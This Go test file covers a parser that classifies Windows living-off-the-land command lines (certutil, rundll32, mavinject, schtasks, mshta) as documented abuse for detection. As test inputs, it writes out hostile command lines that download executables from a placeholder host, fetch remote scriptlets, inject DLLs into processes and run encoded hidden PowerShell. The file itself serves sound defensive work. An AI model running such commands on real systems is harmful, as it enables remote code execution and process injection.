package lolbas

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func TestCommandLinesAreReadAsTheyAreMeant(t *testing.T) {
	for _, x := range examples(t) {
		u := Parse(x.program, x.line)
		var first Payload
		if len(u.Payloads) > 0 {
			first = u.Payloads[0]
		}
		if u.Mode != x.mode || string(first.Kind) != x.kind || first.Target != x.target {
			t.Errorf("%s row %d: %s\n got %q %s %q\nwant %q %s %q", x.file, x.number, x.line, u.Mode, first.Kind, first.Target, x.mode, x.kind, x.target)
		}
		if u.Abuse != (x.form == "abuse") {
			t.Errorf("%s row %d: %s\n abuse is %v (%s)", x.file, x.number, x.line, u.Abuse, u.Says)
		}
		if x.form == "hidden" && u.Hidden == "" {
			t.Errorf("%s row %d: %s\n does not say where the payload hides", x.file, x.number, x.line)
		}
		if u.Abuse && (u.Category == "" || u.Technique == "") || !u.Abuse && u.Category+u.Technique != "" || u.Says == "" {
			t.Errorf("%s row %d: %s\n incomplete: %+v", x.file, x.number, x.line, u)
		}
	}
}

func TestSpellingDoesNotMatter(t *testing.T) {
	for _, x := range examples(t) {
		want := Parse(x.program, x.line)
		for what, line := range map[string]string{
			"trailing blanks": x.line + "  ",
			"upper case":      strings.ToUpper(x.line),
		} {
			if what == "upper case" && (grammar()[strings.ToLower(x.program)].cased || strings.Contains(x.line, "enc")) {
				continue // both are told apart by case: options of SSH, base64
			}
			if got := Parse(x.program, line); got.Mode != want.Mode || got.Abuse != want.Abuse || len(got.Payloads) != len(want.Payloads) {
				t.Errorf("%s row %d with %s: %s\n got %+v\nwant %+v", x.file, x.number, what, line, got, want)
			}
		}
		if got := Parse(strings.ToUpper(x.program), x.line); got.Says != want.Says {
			t.Errorf("%s row %d: the entry's name is told apart by case", x.file, x.number)
		}
	}
}

// What a debugger or a transfer program does with an option that it does not know is not known here either.
func TestUnknownOptionsHaveNoForm(t *testing.T) {
	for program, lines := range map[string][]string{
		"Cdb.exe": {"cdb -zz", "cdb.exe /zz", "cdb"}, "Ntsd.exe": {"ntsd -zz"}, "WinDbg.exe": {"windbg -zz", "windbg /zz"}, "Ftp.exe": {"ftp /zz", "ftp -zz"},
	} {
		for _, line := range lines {
			if u := Parse(program, line); u.Mode != "" || u.Abuse {
				t.Errorf("%s is %+v", line, u)
			}
		}
	}
}

func TestParse(t *testing.T) {
	tests := []struct {
		name, program, line string
		mode                string
		payloads            []Payload
		abuse               bool
	}{
		{"arguments of the launched program are its own", "Mftrace.exe", `mftrace.exe -c t.xml -es calc.exe -a x "b c"`, "launch", []Payload{{PayloadExe, "calc.exe", `-a x "b c"`}}, true},
		{"options may begin with a slash", "Mftrace.exe", `mftrace /l 5 /o t.etl app.exe`, "launch", []Payload{{PayloadExe, "app.exe", ""}}, true},
		{"a long dash is a dash", "Mftrace.exe", "mftrace \u2013a 12", "attach", []Payload{{PayloadAttach, "12", ""}}, false},
		{"an attach target may be a name with blanks", "Mftrace.exe", `mftrace -a "my player.exe"`, "attach", []Payload{{PayloadAttach, "my player.exe", ""}}, false},
		{"a trace file in quotes is converted", "Mftrace.exe", `mftrace "C:\my traces\A.ETL"`, "convert", []Payload{{PayloadFile, `C:\my traces\A.ETL`, ""}}, false},
		{"options alone ask for nothing", "Mftrace.exe", `mftrace -v`, "help", nil, false},
		{"no arguments ask for nothing", "Mftrace.exe", `mftrace.exe`, "help", nil, false},
		{"a library that is not named", "Shimgvw.dll", `explorer.exe x,y http://files.example.com/a.exe`, "", nil, false},
		{"a script that is not named", "Pubprn.vbs", `cscript other.vbs script:http://files.example.com/a`, "", nil, false},
		{"neither name nor line", "", ``, "", nil, false},
		{"a crash handler is no payload", "Mftrace.exe", `mftrace WerFault.exe -u -p 12`, "launch", nil, true},
		{"a console host alone is no payload", "Mftrace.exe", `mftrace C:\Windows\System32\conhost.exe 0x4`, "launch", nil, true},
		{"a helper's name elsewhere is a payload", "Mftrace.exe", `mftrace C:\Users\Public\conhost.exe 0x4`, "launch", []Payload{{PayloadExe, `C:\Users\Public\conhost.exe`, "0x4"}}, true},
		{"the address comes first, then where it goes", "Certutil.exe", `certutil -urlcache -f http://files.example.com/x C:\Temp\x.exe`, "download",
			[]Payload{{PayloadRemote, "http://files.example.com/x", ""}, {PayloadExe, `C:\Temp\x.exe`, ""}}, true},
		{"both halves of an injection", "Mavinject.exe", `mavinject 77 /INJECTRUNNING=C:\Temp\x.dll`, "inject", []Payload{{PayloadDLL, `C:\Temp\x.dll`, ""}, {PayloadAttach, "77", ""}}, true},
		{"a variable stands for its folder", "Regsvr32.exe", `regsvr32 /s %TEMP%\x.dll`, "register", []Payload{{PayloadDLL, `%TEMP%\x.dll`, ""}}, true},
		{"a public folder by variable", "Regsvr32.exe", `regsvr32 /s %PUBLIC%\x.dll`, "register", []Payload{{PayloadDLL, `%PUBLIC%\x.dll`, ""}}, true},
		{"WebDAV with a port", "Rundll32.exe", `rundll32 \\files.example.com@SSL@8443\d\x.dll,Go`, "call", []Payload{{PayloadDLL, `\\files.example.com@SSL@8443\d\x.dll`, "Go"}}, true},
		{"an unknown entry", "nothing.exe", `nothing.exe x`, "", nil, false},
		{"a line that begins with its arguments", "Wmic.exe", ` /node:x process call create calc`, "run", []Payload{{PayloadCmd, "calc", ""}}, true},
		{"an unquoted path with blanks", "Mftrace.exe", `C:\Program Files (x86)\Windows Kits\10\bin\x64\mftrace.exe calc`, "launch", []Payload{{PayloadExe, "calc", ""}}, true},
		{"a wrapped task is looked into", "Schtasks.exe", `schtasks /create /tn a /tr "mshta http://files.example.com/x"`, "schedule", []Payload{{PayloadCmd, "mshta http://files.example.com/x", ""}}, true},
		{"a library is known by its function", "Rundll32.exe", `rundll32 C:\Windows\System32\SHELL32.dll,Control_RunDLL "C:\Users\Public\x.cpl"`, "open", []Payload{{PayloadDLL, `C:\Users\Public\x.cpl`, ""}}, true},
		{"a library of a listed name elsewhere is another", "Rundll32.exe", `rundll32 C:\Users\Public\shell32.dll,Control_RunDLL`, "call", []Payload{{PayloadDLL, `C:\Users\Public\shell32.dll`, "Control_RunDLL"}}, true},
		{"an abused script is the host's abuse", "Cscript.exe", `cscript C:\Windows\System32\pubprn.vbs x script:http://files.example.com/a`, "run script",
			[]Payload{{PayloadScriptlet, "http://files.example.com/a", ""}}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			u := Parse(tt.program, tt.line)
			if u.Mode != tt.mode || u.Abuse != tt.abuse || len(u.Payloads) != len(tt.payloads) {
				t.Fatalf("got %+v", u)
			}
			for i, p := range tt.payloads {
				if u.Payloads[i] != p {
					t.Errorf("payload %d is %+v, want %+v", i, u.Payloads[i], p)
				}
			}
		})
	}
}

func TestSentencesSayWhatIsKnownAndNoMore(t *testing.T) {
	for line, want := range map[string]string{
		`mftrace.exe notepad.exe`: `It was asked to launch "notepad.exe", which is its purpose and has the form of a documented abuse (Execute, T1127) as well.`,
		`mftrace.exe -a 4711`:     `It was asked to attach "4711".`,
	} {
		if got := Parse("Mftrace.exe", line).Says; got != want {
			t.Errorf("%s\n got %s\nwant %s", line, got, want)
		}
	}
	if got := Parse("Wsreset.exe", "wsreset.exe").Says; !strings.Contains(got, "not on the command line, look at registry: ") {
		t.Errorf("hidden payload: %s", got)
	}
	long := Parse("Mftrace.exe", "mftrace "+strings.Repeat("ä", 9000)).Says
	if len(long) > 1000 || !utf8.ValidString(long) {
		t.Errorf("a sentence of %d bytes", len(long))
	}
}

func TestNaturesOfArguments(t *testing.T) {
	for _, tt := range []struct {
		nature string
		yes    []string
		no     []string
	}{
		{"@url", []string{"http://a.example.com", "x=HTTPS://a.example.com/b", `http:\\a.example.com\b`}, []string{"C:\\http", "http", "myhttp:x", "proxy:8080"}},
		{"@unc", []string{`\\h\s\x`, `"\\h@SSL\DavWWWRoot\x"`, "//h/s/x", `-out:\\h\s\x`}, []string{`C:\x`, `\\?\C:\x`, "http://h/x"}},
		{"@ads", []string{`C:\a.txt:b.exe`, "a.txt:b", `.\a:b`, `-out:C:\a.txt:b.exe`, `>C:\a.txt:b`, `\\h\s\a.txt:b`},
			[]string{`C:\a.txt`, "a:b", "h.example.com:8080", "me@h.example.com:x.txt", "http://h/a:b", `C:\a.zip:Zone.Identifier`, "Host Name:"}},
		{"@staged", []string{`C:\Users\Public\x`, `%TEMP%\x.dll`, `C:\Windows\Temp\x`, `C:\PerfLogs\x`, `C:\ProgramData\x.exe`, `\\h\s\x`, `C:\Users\a\AppData\Roaming\x.dll`},
			[]string{`C:\ProgramData\App\x.exe`, `C:\Users\a\AppData\Local\App\x.dll`, `C:\Windows\x`, "x.dll", `D:\src\x`}},
		{"@parked", []string{`C:\Users\Public\x`, `C:\Users\a\Downloads\x`}, []string{`C:\Windows\Temp\x`}},
		{"@guarded", []string{`C:\Windows\System32\x.dll`, `"C:\Program Files\A\x.dll"`}, []string{`C:\Users\a\x`, "x", `C:\Windows\System32\x.dll:y`}},
		{"@bare", []string{"x.dll", `.\x.dll`, `..\x`}, []string{`C:\x`, `\\h\s\x`}},
		{"@webfile", []string{"http://h.example.com/a.exe", "https://h.example.com/a.ZIP?x=1"}, []string{"http://h.example.com/a.docx", "http://h.example.com/", "a.exe"}},
		{"@plain", []string{"x.exe"}, []string{"*.exe", "", "x?.exe"}},
		{"@sly", []string{"mshta http://h.example.com/x", `cmd /c "\\h\s\x.exe"`, `C:\Users\Public\x.exe -a`, "powershell -w hidden -enc YwBhAGwAYwA=", "rundll32 C:\\Users\\Public\\x.dll,Go"},
			[]string{"notepad", `"C:\Program Files\A\a.exe" -x`, "cmd /c del @file", "powershell -File C:\\Scripts\\x.ps1", ""}},
	} {
		for _, s := range tt.yes {
			if !nature(tt.nature, s, &line{}) {
				t.Errorf("%s is not %s", s, tt.nature)
			}
		}
		for _, s := range tt.no {
			if nature(tt.nature, s, &line{}) {
				t.Errorf("%s is %s", s, tt.nature)
			}
		}
	}
}

func TestGlob(t *testing.T) {
	for _, tt := range []struct {
		pattern, text string
		want          bool
	}{
		{"*.exe", "a.exe", true}, {"*.exe", "a.exe.txt", false}, {"a*b*c", "aXbYbZc", true}, {"a?c", "abc", true}, {"a?c", "ac", false},
		{"", "", true}, {"*", "", true}, {"?*", "", false}, {"**", "x", true}, {"*a", "bbba", true}, {"*ab", "aab", true},
	} {
		if got := glob(tt.pattern, tt.text); got != tt.want {
			t.Errorf("glob(%q, %q) is %v", tt.pattern, tt.text, got)
		}
	}
}

func TestHostileLinesAreReadInBoundedTime(t *testing.T) {
	long := []string{
		strings.Repeat("cmd /c ", 20000),
		"x " + strings.Repeat(`"`, 90000),
		"x " + strings.Repeat("-a ", 30000),
		"x " + strings.Repeat("a*", 40000) + ".exe",
		"x -c " + strings.Repeat("schtasks /create /tr ", 4000),
		"x " + strings.Repeat("http:/", 15000),
		"x " + strings.Repeat("^", 90000),
	}
	start := time.Now()
	some := []string{"Rundll32.exe", "Cmd.exe", "Powershell.exe", "Schtasks.exe", "Forfiles.exe", "Wmic.exe", "Msiexec.exe", "Cscript.exe", "Mftrace.exe", "Sc.exe", "Bitsadmin.exe", "Shell32.dll", "Pubprn.vbs", "Regsvr32.exe"}
	for _, name := range some {
		for _, line := range long {
			Parse(name, line)
		}
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("%d lines took %v", len(long)*len(some), d)
	}
}

// What a real host ran without an attacker is ordinary use.
func TestEverydayLinesOfARealHostAreOrdinary(t *testing.T) {
	f, err := os.Open(filepath.FromSlash("../../shared/evidence/msticpy/mde_proc_pub.csv"))
	if err != nil {
		t.Skip("no evidence in ../shared/evidence")
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	column := func(name string) int { return slices.Index(rows[0], name) }
	file, line := column("FileName"), column("ProcessCommandLine")
	seen := 0
	for _, row := range rows[1:] {
		for _, e := range ByName(row[file]) {
			seen++
			if u := Parse(e.Name, row[line]); u.Abuse || u.Mode == "" {
				t.Errorf("%s\n%+v", row[line], u)
			}
		}
	}
	if seen < 80 {
		t.Errorf("only %d lines of listed programs", seen)
	}
	t.Logf("%d cases", seen)
}

func FuzzParse(f *testing.F) {
	for _, x := range examples(f) {
		f.Add(x.program, x.line)
	}
	f.Add("Rundll32.exe", `rundll32 ,Go`)
	f.Add("Powershell.exe", `powershell -c "" -File ""`)
	f.Fuzz(func(t *testing.T, name, line string) {
		u := Parse(name, line)
		if len(u.Payloads) > 4 || len(u.Says) > 2000 {
			t.Errorf("%d payloads, a sentence of %d bytes", len(u.Payloads), len(u.Says))
		}
		for _, p := range u.Payloads {
			if p.Target == "" {
				t.Error("a payload without a target")
			}
			if len(p.Target)+len(p.Args) > 2*len(line)+64 {
				t.Error("a payload longer than its line")
			}
		}
		if u.Abuse && (u.Mode == "" || u.Category == "" || u.Technique == "") {
			t.Errorf("incomplete: %+v", u)
		}
		if again := Parse(name, line); again.Says != u.Says || again.Abuse != u.Abuse {
			t.Error("read twice, meant two things")
		}
	})
}

func BenchmarkParse(b *testing.B) {
	all := examples(b)
	b.ReportAllocs()
	for i := range b.N {
		x := &all[i%len(all)]
		Parse(x.program, x.line)
	}
}
